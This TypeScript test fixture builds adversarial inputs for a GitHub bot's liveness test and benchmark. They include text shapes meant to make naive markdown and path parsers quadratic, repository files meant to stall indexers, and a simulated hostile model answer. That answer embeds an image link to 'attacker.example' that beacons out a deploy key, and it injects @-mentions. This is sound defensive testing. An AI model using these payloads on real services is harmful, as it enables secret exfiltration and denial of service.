/**
 * Text shaped to make naive algorithms slow, as the security review of issue 9 wrote it:
 * each shape once made one of devbuddy's text functions quadratic (or worse). Used by the
 * end-to-end liveness test and by `npm run bench`; every shape fits in one GitHub comment
 * (65,536 characters).
 */

const LIMIT = 65_000;

/** Repeats `unit` to about `length` characters (never more). */
export const fill = (unit: string, length = LIMIT): string => unit.repeat(Math.max(1, Math.floor(length / unit.length)));

/** Backtick runs of every length 1, 2, 3…: a code-span closer search that rescans is quadratic. */
export function backtickRuns(length = LIMIT): string {
  let text = "";
  for (let run = 1; text.length + run + 1 <= length; run++) text += `${"`".repeat(run)}a`;
  return text;
}

/** Shapes a stranger can post as a comment, by name. */
export function strangerShapes(length = LIMIT): Record<string, string> {
  return {
    letters: fill("a", length),
    "link openers": fill("[](", length),
    "comment then link openers": `<!--${fill("[](", length - 4)}`,
    underscores: fill("a_", length),
    "nested list": fill("- ", length),
    "nested quotes": fill("> ", length),
    "backtick runs": backtickRuns(length),
    "emphasis runs": fill("*a", length),
    brackets: fill("[", length),
    "image openers": fill("![", length),
    entities: fill("&#64;", length),
    "tag openers": fill("<a ", length),
    "path segments": fill("a/", length),
    "link definitions": fill("[x]: <\n", length),
    "cjk run": fill("漢", length),
    "zero-width spaces": fill("\u200b", length),
    "combining marks": fill("a\u0301б\u0302α\u0303", length),
  };
}

/**
 * An answer a misbehaving model could stream: every inline shape above, mentions and an
 * image that must not reach GitHub as written, and an unclosed fence at the end.
 */
export function hostileAnswer(marker: string, length = 24_000): string {
  const share = Math.floor(length / 6);
  return [
    "**Plan.**\n\n",
    `${fill("[](", share)}\n\n`,
    `<!--${fill("[](", share)}\n\n`,
    `${backtickRuns(share)}\n\n`,
    `${fill("a_", share)}\n\n`,
    `${fill("- ", share)}\n\n`,
    "Ask _@alice_, __@bob__, &#64;carol and &#x40;acme/security.\n\n",
    "![status](https://attacker.example/collect?q=deploy-key)\n\n",
    `\`\`\`\n${marker}\n`,
  ].join("");
}

/** Files a repository can hold to stall a naive indexer or glob matcher, path → content. */
export function hostileRepoFiles(): Record<string, string> {
  const chain = ["class C0:\n    def method(self):\n        return 0\n"];
  for (let i = 1; i < 4_000; i++) chain.push(`class C${i}(C${i - 1}):\n    pass\n`);
  const big: string[] = [];
  for (let i = 0; big.join("").length < 500_000; i++) big.push(`def function_${i}(value):\n    return value + ${i}\n\n`);
  return {
    "chain.py": chain.join("\n"),
    "big.py": big.join(""),
    "deep.py": `x = ${"[".repeat(60_000)}${"]".repeat(60_000)}\n`,
    ".gitattributes": `${"*a".repeat(14)}b linguist-generated\n[z-a] linguist-generated\n`,
    ".gitignore": `${"a/**/".repeat(9)}b\n`,
    [`${"a".repeat(40)}.txt`]: "forty letters\n",
    [`${"a/".repeat(40)}c.txt`]: "forty-one segments\n",
    "main.py": "from chain import C3999\n\ndef run():\n    return C3999().method()\n",
  };
}
